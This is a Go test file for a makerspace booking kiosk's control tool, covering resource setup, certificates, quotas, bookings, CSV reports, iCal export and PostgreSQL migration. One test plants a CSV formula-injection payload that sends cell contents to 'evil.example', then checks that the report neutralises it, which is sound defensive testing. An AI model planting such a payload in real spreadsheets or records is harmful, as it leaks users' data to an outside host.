package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/anjungan/anjungan/booking"
	"github.com/anjungan/anjungan/booking/postgres/pgtest"
	bookingsql "github.com/anjungan/anjungan/booking/sqlite"
)

// makerspaceDB makes a makerspace database as the kiosk's first run
// would, with no resources.
func makerspaceDB(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "makerspace.db")
	s := bookingsql.New(path)
	if err := s.Open(context.Background()); err != nil {
		t.Fatal(err)
	}
	s.Close()
	return path
}

// ctl runs kioskctl on the makerspace database and returns its output.
func ctl(t *testing.T, db string, args ...string) (string, error) {
	t.Helper()
	var out bytes.Buffer
	err := run(context.Background(), append([]string{"-makerspace", db, "makerspace"}, args...), &out)
	return out.String(), err
}

func mustCtl(t *testing.T, db string, args ...string) string {
	t.Helper()
	out, err := ctl(t, db, args...)
	if err != nil {
		t.Fatalf("kioskctl makerspace %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return out
}

func TestMakerspaceSetup(t *testing.T) {
	db := makerspaceDB(t)
	out := mustCtl(t, db, "load", "../../makerspace.example.toml")
	if !strings.Contains(out, "2 resources, 2 quotas, 1 closures, 1 certificates") {
		t.Fatalf("load: %s", out)
	}
	mustCtl(t, db, "load", "../../makerspace.example.toml") // again: nothing doubles
	if out := mustCtl(t, db, "closure", "list", "-from", "2026-12-01", "-to", "2026-12-31"); strings.Count(out, "Libur Natal") != 1 {
		t.Fatalf("closures after loading twice:\n%s", out)
	}
	out = mustCtl(t, db, "resources")
	for _, want := range []string{"printer-1", "Prusa MK4", "1h0m0s-4h0m0s", "laser cutter safety", "mon=09:00-12:00,13:00-16:00"} {
		if !strings.Contains(out, want) {
			t.Errorf("resources lacks %q:\n%s", want, out)
		}
	}
	mustCtl(t, db, "resource", "set", "sewing-1", "-kind", "sewing_machine", "-name", "Janome", "-hours", "tue-sat=10:00-15:00")
	mustCtl(t, db, "resource", "set", "sewing-1", "-max", "3h") // changes one rule, keeps the rest
	mustCtl(t, db, "resource", "out", "sewing-1", "-note", "needle broken")
	out = mustCtl(t, db, "resources")
	if !strings.Contains(out, "Janome") || !strings.Contains(out, "30m0s-3h0m0s") || !strings.Contains(out, "tue=10:00-15:00") || !strings.Contains(out, "OUT: needle broken") {
		t.Fatalf("sewing-1:\n%s", out)
	}
	mustCtl(t, db, "resource", "in", "sewing-1")
	mustCtl(t, db, "cert", "grant", "20000099", "sewing basics", "-expires", "2027-01-31")
	if out := mustCtl(t, db, "cert", "list", "20000099"); !strings.Contains(out, "sewing basics\tvalid through 2027-01-31") {
		t.Fatalf("cert list: %q", out)
	}
	mustCtl(t, db, "cert", "revoke", "20000099", "sewing basics")
	mustCtl(t, db, "quota", "set", "sewing_machine", "-week", "6h")
	mustCtl(t, db, "max-active", "5")
	if out := mustCtl(t, db, "quota", "list"); !strings.Contains(out, "sewing_machine  0s       6h0m0s") || !strings.Contains(out, "per patron: 5") {
		t.Fatalf("quota list:\n%s", out)
	}
	csvFile := filepath.Join(t.TempDir(), "certs.csv")
	os.WriteFile(csvFile, []byte("card,name,expires\n20000001,laser cutter safety,2027-03-01\n20000002,laser cutter safety,\n"), 0o600)
	if out := mustCtl(t, db, "load", csvFile); !strings.Contains(out, "2 certificates") {
		t.Fatalf("csv load: %s", out)
	}
	mustCtl(t, db, "resource", "delete", "sewing-1")

	// Bad input: each refused with the reason, nothing half-loaded.
	bad := filepath.Join(t.TempDir(), "bad.toml")
	os.WriteFile(bad, []byte("[[resource]]\nid = \"pc-9\"\nkind = \"design_pc\"\nname = \"PC\"\nslot = \"7m\"\n"), 0o600)
	if _, err := ctl(t, db, "load", bad); err == nil || !strings.Contains(err.Error(), "resource[0] (pc-9)") || !strings.Contains(err.Error(), "nothing loaded") {
		t.Fatalf("bad setup: %v", err)
	}
	os.WriteFile(bad, []byte("[[resource]]\nid = \"pc-9\"\ncolour = \"red\"\n"), 0o600)
	if _, err := ctl(t, db, "load", bad); err == nil || !strings.Contains(err.Error(), "resource.colour") {
		t.Fatalf("unknown key: %v", err)
	}
	os.WriteFile(csvFile, []byte("card,name,expires\n20000001,,2027-03-01\n"), 0o600)
	if _, err := ctl(t, db, "load", csvFile); err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Fatalf("bad csv: %v", err)
	}
	for _, args := range [][]string{
		{"resource", "set", "x", "-hours", "mon=9-5"},
		{"closure", "add", "2026-12-31", "2026-12-01"},
		{"max-active", "many"},
		{"cancel", "NOSUCH"},
		{"report", "fun"},
		{"frobnicate"},
	} {
		if _, err := ctl(t, db, args...); err == nil {
			t.Errorf("%v accepted", args)
		}
	}
	if _, err := ctl(t, filepath.Join(t.TempDir(), "none.db"), "resources"); err == nil || !strings.Contains(err.Error(), "run the kiosk once") {
		t.Fatalf("missing database: %v", err)
	}
}

func TestMakerspaceBookingsReportsICal(t *testing.T) {
	db := makerspaceDB(t)
	mustCtl(t, db, "load", "../../makerspace.example.toml")
	jkt, _ := time.LoadLocation("Asia/Jakarta")
	s := bookingsql.New(db)
	s.Location = jkt
	if err := s.Open(context.Background()); err != nil {
		t.Fatal(err)
	}
	// A booking on Monday 1 March 2027, made the day before.
	day := booking.Date("2027-03-01")
	clock := day.AddDays(-1).At(12*60, jkt)
	s.Now = func() time.Time { return clock }
	b, err := s.Book(context.Background(), booking.Request{Resource: "printer-1", Patron: booking.Patron{Card: "20001000000012", Category: "umum"},
		Start: day.At(9*60, jkt), Duration: 2 * time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	s.Close()
	out := mustCtl(t, db, "bookings", string(day))
	if !strings.Contains(out, b.Code) || !strings.Contains(out, "09:00") || !strings.Contains(out, "**********0012") || strings.Contains(out, "20001000000012") {
		t.Fatalf("bookings:\n%s", out)
	}
	out = mustCtl(t, db, "report", "categories", "-from", string(day), "-to", string(day))
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][0] != "umum" || rows[1][1] != "1" || rows[1][3] != "2.00" {
		t.Fatalf("categories report: %v %q", err, out)
	}
	out = mustCtl(t, db, "report", "utilisation", "-from", string(day), "-to", string(day.AddDays(6)))
	if !strings.Contains(out, "2027-03-01,printer-1,Prusa MK4,43.00,2.00,0.00,0.00,0.0") {
		t.Fatalf("utilisation report:\n%s", out)
	}
	// A hostile name is text in a spreadsheet, not a formula.
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`
	mustCtl(t, db, "resource", "set", "printer-1", "-name", evil)
	out = mustCtl(t, db, "report", "utilisation", "-from", string(day), "-to", string(day.AddDays(6)))
	rows, err = csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Fatalf("formula in the report: %q\n%s", cell, out)
			}
		}
		if r[1] == "printer-1" && r[2] != "'"+evil {
			t.Fatalf("name written as %q", r[2])
		}
	}
	mustCtl(t, db, "resource", "set", "printer-1", "-name", "Prusa MK4")
	ics := filepath.Join(t.TempDir(), "makerspace.ics")
	mustCtl(t, db, "ical", "-from", string(day), "-to", string(day), "-o", ics, "-site", "uji")
	data, err := os.ReadFile(ics)
	if err != nil || !bytes.Contains(data, []byte("SUMMARY:Prusa MK4 ("+b.Code+")\r\n")) || !bytes.Contains(data, []byte("DTSTART:20270301T020000Z\r\n")) {
		t.Fatalf("ical: %v\n%s", err, data)
	}
	out = mustCtl(t, db, "cancel", b.Code, "-staff", "ani")
	if !strings.Contains(out, "now cancelled") {
		t.Fatalf("cancel: %s", out)
	}
	if _, err := ctl(t, db, "checkin", b.Code); err == nil || !strings.Contains(err.Error(), booking.KeyBookingCancelled) {
		t.Fatalf("check-in of a cancelled booking: %v", err)
	}
	if out := mustCtl(t, db, "secret"); len(strings.TrimSpace(out)) != 64 {
		t.Fatalf("secret %q", out)
	}
}

// TestMakerspaceMigrate moves a kiosk's makerspace into PostgreSQL and
// lists it from there.
func TestMakerspaceMigrate(t *testing.T) {
	db := makerspaceDB(t)
	mustCtl(t, db, "load", "../../makerspace.example.toml")
	before := mustCtl(t, db, "resources")
	url := pgtest.Shared(t).NewDatabase(t)
	out := mustCtl(t, db, "migrate", "-to", url)
	if !strings.Contains(out, "bookings") || !strings.Contains(out, "checked") {
		t.Fatalf("migrate said:\n%s", out)
	}
	if strings.Contains(out, "postgres@") && strings.Contains(url, ":pw@") {
		t.Fatal("a password in the output")
	}
	listed := mustCtl(t, url, "resources")
	if listed != before || strings.Count(listed, "\n") < 3 {
		t.Fatalf("resources from PostgreSQL:\n%s\nfrom the file:\n%s", listed, before)
	}
	if _, err := ctl(t, db, "migrate", "-to", url); err == nil {
		t.Fatal("migrated twice into one database")
	}
	if _, err := ctl(t, db, "migrate", "-to", db); err == nil {
		t.Fatal("migrate took a file as the destination")
	}
}
